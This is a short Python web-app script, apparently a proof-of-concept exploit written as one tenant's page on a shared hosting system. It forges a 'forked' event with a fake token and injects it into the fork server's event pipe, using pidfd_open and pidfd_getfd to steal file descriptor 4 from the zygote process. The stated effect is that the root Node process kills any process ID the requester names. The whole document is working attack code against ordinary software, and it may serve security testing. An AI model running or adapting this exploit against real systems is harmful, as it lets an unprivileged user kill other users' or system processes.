# Alice's page: makes the root Node SIGKILL any process, by writing a forged
# "forked" event (unknown token) into her own fork server's event pipe, which
# she can open through /proc/<zygote>/fd/4 (same uid as the zygote).
# GET /users/alice/forgekill.py?pid=N
import os, json, urllib.parse
def start_of(pid):
    s = open(f"/proc/{pid}/stat").read()
    return int(s[s.rindex(')') + 2:].split()[19])
def application(environ, start_response):
    q = urllib.parse.parse_qs(environ.get('QUERY_STRING', ''))
    pid = int(q['pid'][0])
    z = os.getppid()
    zcmd = open(f"/proc/{z}/cmdline").read().replace('\0', ' ')
    ev = json.dumps({"event": "forked", "token": "a" * 32, "pid": pid, "start": start_of(pid)}, separators=(",", ":"))
    try:
        # fd 4 is a socketpair (ENXIO through /proc): take a copy with pidfd_getfd
        # (needs only ptrace access: same uid, no Yama).
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        pidfd = libc.syscall(434, z, 0)  # pidfd_open
        fd = libc.syscall(438, pidfd, 4, 0)  # pidfd_getfd
        if fd < 0: raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
        os.write(fd, (ev + "\n").encode()); os.close(fd)
        out = f"wrote {ev} to zygote {z} ({zcmd})\n"
    except OSError as e:
        out = f"failed: {e} (parent {z}: {zcmd})\n"
    start_response('200 OK', [('Content-Type', 'text/plain')])
    return [out.encode()]
